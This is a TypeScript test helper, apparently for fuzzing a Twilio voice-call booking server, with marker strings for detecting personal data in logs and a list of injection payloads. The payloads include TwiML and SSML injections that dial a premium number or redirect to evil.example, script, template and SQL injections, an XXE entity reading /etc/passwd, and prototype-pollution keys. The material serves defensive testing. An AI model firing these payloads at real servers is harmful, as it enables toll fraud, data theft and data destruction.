// Marker values and hostile payloads. Markers are distinctive, so finding one verbatim in the
// server's logs (or in a TwiML response) can only mean it came from our requests.
import { randomBytes, randomInt } from "node:crypto";
import { pick } from "./routes.ts";

/** The caller number every hostile request (and every real call) sends as From / Caller. */
export const MARKER_PHONE = "+4915199999999";
/** Digits the server accepts as keypad input (0-9 only) but nobody else would log. */
export const MARKER_DIGITS = "4711471147114711";
export const MARKER_NAME_PREFIX = "MARKER-NAME-";
export const speechMarker = () => `MARKER-SPEECH-${randomInt(1e9)}`;

/** Strings that must never show up in logs, by what they stand for. */
export const LOG_MARKERS: Record<string, string[]> = {
  phone: [MARKER_PHONE, MARKER_PHONE.slice(1), "15199999999"],
  speech: ["MARKER-SPEECH-"],
  digits: [MARKER_DIGITS],
  name: [MARKER_NAME_PREFIX],
};

/** Markup, template, SQL and SSML injections for SpeechResult, Digits, From and friends. */
export const INJECTIONS = [
  "</Say><Dial>+4990012345678</Dial><Say>",
  "</prosody></Say><Dial><Number>+4990012345678</Number></Dial>",
  "<Dial>+4990012345678</Dial>",
  "<script>alert(1)</script>",
  "<![CDATA[</Say><Hangup/>]]>",
  "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
  "'; DROP TABLE booking;--",
  "1; DELETE FROM call_session WHERE true; --",
  "' OR '1'='1",
  '<break time="100s"/>',
  '<speak><break time="100s"/><audio src="https://evil.example/x.mp3"/></speak>',
  "&lt;Dial&gt;+4990012345678&lt;/Dial&gt;",
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  "\u0000\u0001\u001b[31m\r\n<Redirect>https://evil.example/</Redirect>",
  "drei drei drei drei null</Say><Redirect>https://evil.example/twiml</Redirect>",
  "+4990012345678",
  "\u202e\u2066<Dial>\u2069",
];

/** Fragments of our input that should not come back in a TwiML response, even as escaped text. */
export const REFLECTION_FRAGMENTS = [
  "MARKER-",
  "DROP TABLE",
  "DELETE FROM",
  "{{7*7}}",
  "<script",
  "evil.example",
  "4990012345678",
  "<Dial",
  "<break",
];
/** Injection payloads that are reported when echoed into the logs (not personal data). */
export const PAYLOAD_MARKERS = [
  "DROP TABLE",
  "DELETE FROM call_session",
  "<script>",
  "4990012345678",
  "evil.example",
  "{{7*7}}",
];

const UNICODE = ["ä", "ß", "€", "💣", "𝔘", "\u0301", "\ufeff", "\u200b", "ﷺ", "Ж", "中", "\ud800", "\uffff", "\u0000"];
const ODD_VALUES = ["", " ", "null", "undefined", "NaN", "Infinity", "-1", "1e309", "[object Object]", "true", "0x41"];

/** Random text: ascii, unicode (lone surrogates included), numbers, a long run up to `max` chars, odd values, injections. */
export function randomText(max = 200): string {
  const kinds = [
    () => randomBytes(randomInt(1, 40)).toString("base64"),
    () => Array.from({ length: randomInt(1, 30) }, () => pick(UNICODE)).join(""),
    () => String(randomInt(-1e9, 1e9) * (randomInt(2) ? 1 : 1e-3)),
    () => "x".repeat(randomInt(1, Math.max(2, max))),
    () => pick(ODD_VALUES),
    () => pick(INJECTIONS),
  ];
  return pick(kinds)();
}

const PROTOTYPE_KEYS = [
  "__proto__",
  "constructor",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "prototype",
  "__defineGetter__",
];
const BRACKET_KEYS = [
  "Digits[]",
  "CallSid[]",
  "From[0]",
  "SpeechResult[a]",
  "a[b][c]",
  "[]",
  "%",
  "Call Sid",
  "ÄÖÜ",
  "💣",
];
const TWILIO_KEYS = [
  "Digits",
  "SpeechResult",
  "From",
  "CallStatus",
  "QueuePosition",
  "QueueTime",
  "RecordingUrl",
  "RecordingDuration",
  "CallDuration",
  "Confidence",
];

export function randomKey(): string {
  return pick([
    () => randomBytes(randomInt(1, 12)).toString("hex"),
    () => pick(PROTOTYPE_KEYS),
    () => pick(BRACKET_KEYS),
    () => pick(TWILIO_KEYS),
  ])();
}
